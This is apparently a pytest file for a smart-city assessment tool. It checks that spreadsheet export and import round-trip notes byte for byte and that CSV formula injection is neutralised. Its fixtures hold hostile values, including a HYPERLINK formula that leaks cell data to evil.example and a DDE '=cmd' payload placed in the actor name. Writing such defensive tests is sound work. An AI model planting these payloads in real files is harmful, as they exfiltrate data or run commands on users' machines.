"""Export → edit in a spreadsheet → import: every field the person did not touch comes back byte-identical."""

from __future__ import annotations

import csv
import uuid

import pytest
from openpyxl import load_workbook

from smartcity_assess.core.limits import NOTE_MAX_CHARS
from smartcity_assess.services.assessments import record_response
from smartcity_assess.services.frameworks import open_store

HOSTILE_NOTES = {
    "GOV-01": '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
    "GOV-02": "+1 from the mayor's office",
    "GOV-03": "-- no SOP yet --",
    "GOV-04": "@channel: the website is down",
    "GOV-06": "x" * NOTE_MAX_CHARS,
    "GOV-07": "first line\nsecond line\n\n  indented third\n",
    "GOV-08": "'quoted by the assessor'",
    "INF-01": "''=already two apostrophes",
    "INF-02": "\ttab first, then Bahasa: kelurahan, é and ü, 数据",
    "INF-03": "  spaces around  ",
}


@pytest.fixture
def noted(demo_db, draft_id):
    store = open_store(demo_db)
    for code, note in HOSTILE_NOTES.items():
        record_response(store, uuid.UUID(draft_id), code, note=note, actor="=cmd|' /C calc'!A0")
    before = {code: r.as_input() for code, r in store.responses(uuid.UUID(draft_id)).items()}
    store.close()
    return before


def stored(db, assessment_id):
    store = open_store(db)
    try:
        return {code: r.as_input() for code, r in store.responses(uuid.UUID(assessment_id)).items()}
    finally:
        store.close()


def test_xlsx_edited_in_a_spreadsheet_comes_back_identical(run, demo_db, draft_id, noted, tmp_path):
    path = tmp_path / "responses.xlsx"
    assert run("responses", "export", draft_id, "--out", str(path))[0] == 0
    workbook = load_workbook(path)
    sheet = workbook.active
    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    header = [c.value for c in sheet[1]]
    rows = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    rows["COM-01"][header.index("level")].value = 3  # the one edit a person makes
    workbook.save(path)

    code, _, err = run("responses", "import", draft_id, str(path))
    assert (code, err) == (0, "")
    after = stored(demo_db, draft_id)
    assert after["COM-01"].level == 3
    expected = dict(noted)
    del expected["COM-01"], after["COM-01"]
    assert after == expected  # every note, level, target, value and N/A byte for byte


def test_csv_edited_in_a_spreadsheet_comes_back_identical(run, demo_db, draft_id, noted, tmp_path):
    path = tmp_path / "responses.csv"
    assert run("responses", "export", draft_id, "--out", str(path))[0] == 0
    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    header = rows[0]
    note = header.index("note")
    by_code = {r[0]: r for r in rows[1:]}
    assert by_code["GOV-01"][note] == "'" + HOSTILE_NOTES["GOV-01"]  # a spreadsheet shows it as text
    assert by_code["GOV-08"][note] == "''quoted by the assessor'"
    assert by_code["GOV-06"][note] == HOSTILE_NOTES["GOV-06"]
    by_code["COM-01"][header.index("level")] = "3"
    with path.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(rows)

    assert run("responses", "import", draft_id, str(path))[:3:2] == (0, "")
    after = stored(demo_db, draft_id)
    assert after["COM-01"].level == 3
    expected = dict(noted)
    del expected["COM-01"], after["COM-01"]
    assert after == expected


def test_the_exported_audit_name_cannot_execute_either(run, draft_id, noted, tmp_path):
    path = tmp_path / "r.csv"
    run("responses", "export", draft_id, "--out", str(path))
    text = path.read_text(encoding="utf-8")
    assert "'=cmd|' /C calc'!A0" in text
    assert ",=cmd" not in text
